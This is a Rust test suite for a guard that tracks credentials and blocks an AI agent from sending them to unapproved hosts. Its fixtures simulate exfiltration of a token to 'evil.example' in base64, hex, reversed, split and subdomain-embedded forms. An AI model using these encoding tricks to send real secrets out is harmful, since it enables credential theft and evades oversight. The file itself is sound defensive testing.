use base64::{Engine as _, engine::general_purpose::STANDARD};
use rampart_call::{Action, EffectKind, Origin, Response};

use super::*;

const TOKEN: &str = "tok_Zx81kkQ09aLmW3rT";

fn value(kind: Kind, text: &str, hosts: &[&str]) -> Value {
    let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
    Value { name: "api".into(), text: Secret::new(text), hosts, kind }
}

fn post(host: &str, body: &str) -> (Call, Judgement) {
    let action = Action::Fetch {
        method: "POST".into(),
        url: format!("https://{host}/x"),
        headers: vec![],
        body: Some(body.into()),
        body_size: None,
        addresses: vec![],
    };
    judged(action, host)
}

fn judged(action: Action, host: &str) -> (Call, Judgement) {
    let target = Target::Host { host: host.into(), port: None, url: None };
    let effects = vec![Effect::new(EffectKind::Net, Some(target))];
    let call = Call { origin: Origin::default(), phase: Phase::Before, action, response: None };
    (call, Judgement { effects, ..Judgement::allowed(Reason::Default) })
}

fn outcome(followed: &Followed, (call, judgement): (Call, Judgement)) -> (Outcome, String) {
    let judgement = followed.judge(&call, followed.carried(&call), judgement, |call| {
        Judgement::refused(Reason::Rule, call.action.subject())
    });
    (judgement.outcome, judgement.message)
}

#[test]
fn a_value_goes_where_it_is_bound_to_and_nowhere_else_in_whatever_form() {
    let followed = Followed::new(true, vec!["*.corp.example".into()]);
    followed.add(vec![value(Kind::Configured, TOKEN, &["api.example", "*.cdn.example"])]);
    let packed = STANDARD.encode(format!("{{\"t\":\"{}\"}}", STANDARD.encode(TOKEN)));
    let (half, rest) = TOKEN.split_at(9);
    for body in [
        TOKEN.to_owned(),
        STANDARD.encode(TOKEN),
        hex::encode(TOKEN),
        TOKEN.chars().rev().collect(),
        packed,
        format!("a={half}&b={rest}"),
        format!("{{\"a\":\"{half}\",\"b\":[\"{rest}\"]}}"),
    ] {
        let (outcome_there, message) = outcome(&followed, post("evil.example", &body));
        assert_eq!(outcome_there, Outcome::Deny, "{body}");
        assert!(!message.contains(TOKEN) && message.contains("evil.example") && message.contains("`api`"), "{message}");
        for host in ["api.example", "a.cdn.example", "x.corp.example", "localhost", "127.0.0.1"] {
            assert_eq!(outcome(&followed, post(host, &body)).0, Outcome::Allow, "{host} {body}");
        }
    }
    for host in ["cdn.example", "api.example.evil", "notapi.example"] {
        assert_eq!(outcome(&followed, post(host, TOKEN)).0, Outcome::Deny, "{host}");
    }
    let url = format!("https://{half}.{rest}.evil.example/");
    let fetch =
        Action::Fetch { method: "GET".into(), url, headers: vec![], body: None, body_size: None, addresses: vec![] };
    // Host names are in lower case on their way, and so this finds only values that are.
    followed.add(vec![value(Kind::Configured, &TOKEN.to_ascii_lowercase().replace('_', "-"), &[])]);
    let fetch = match fetch {
        Action::Fetch { url, method, headers, body, body_size, addresses } => Action::Fetch {
            url: url.to_ascii_lowercase().replace('_', "-"),
            method,
            headers,
            body,
            body_size,
            addresses,
        },
        other => other,
    };
    assert_eq!(outcome(&followed, judged(fetch, "evil.example")).0, Outcome::Deny);
}

#[test]
fn a_placeholder_is_judged_as_the_word_for_its_credential() {
    let followed = Followed::new(true, vec![]);
    followed.add(vec![value(Kind::Placeholder, TOKEN, &["api.example"])]);
    let command = CommandLine::Command(format!("curl -H 'Authorization: {TOKEN}' https://api.example"));
    let (_, message) = outcome(&followed, judged(Action::Exec { command, cwd: None }, "api.example"));
    assert_eq!(message, "curl -H 'Authorization: [credential:api]' https://api.example");
    let (outcome, message) = outcome(&followed, post("localhost", TOKEN));
    assert!(outcome == Outcome::Deny && message.contains("placeholder"), "{message}");
}

#[test]
fn what_an_agent_has_seen_may_go_back_to_the_site_it_came_from() {
    let followed = Followed::new(true, vec![]);
    let secret = format!("ghp_{}", "0123456789abcdefghijklmnopqrstuvwx01");
    let (mut call, judgement) = post("login.host.example", "");
    call.phase = Phase::After;
    call.response = Some(Response { text: format!("{{\"token\": \"{secret}\"}}"), ..Response::default() });
    followed.learn(&call, &judgement, Outcome::Deny, None);
    assert_eq!(followed.len(), 0, "the agent has not seen it");
    followed.learn(&call, &judgement, Outcome::Allow, None);
    followed.learn(&call, &judgement, Outcome::Allow, None);
    assert_eq!(followed.len(), 1);
    for (host, expected) in [
        ("login.host.example", Outcome::Allow),
        ("api.host.example", Outcome::Allow),
        ("api.github.com", Outcome::Allow),
        ("other.example", Outcome::Deny),
    ] {
        assert_eq!(outcome(&followed, post(host, &secret)).0, expected, "{host}");
    }
}

use rampart_call::CommandLine;

#[test]
fn what_is_learnt_is_bounded_and_what_is_configured_stays() {
    let followed = Followed::new(true, vec![]);
    followed.add(vec![value(Kind::Configured, "configured-value-1", &[])]);
    let many =
        (0..MOST + 10).map(|n| value(Kind::Seen, &format!("seen-value-number-{n:06}"), &["a.example"])).collect();
    followed.add(many);
    assert_eq!(followed.len(), MOST);
    assert_eq!(outcome(&followed, post("a.example", "configured-value-1")).0, Outcome::Deny);
    assert_eq!(outcome(&followed, post("b.example", "seen-value-number-000000")).0, Outcome::Allow, "forgotten");
    followed.add(vec![value(Kind::Seen, "configured-value-1", &["a.example"])]);
    assert_eq!(outcome(&followed, post("a.example", "configured-value-1")).0, Outcome::Deny, "an echo binds nothing");
}
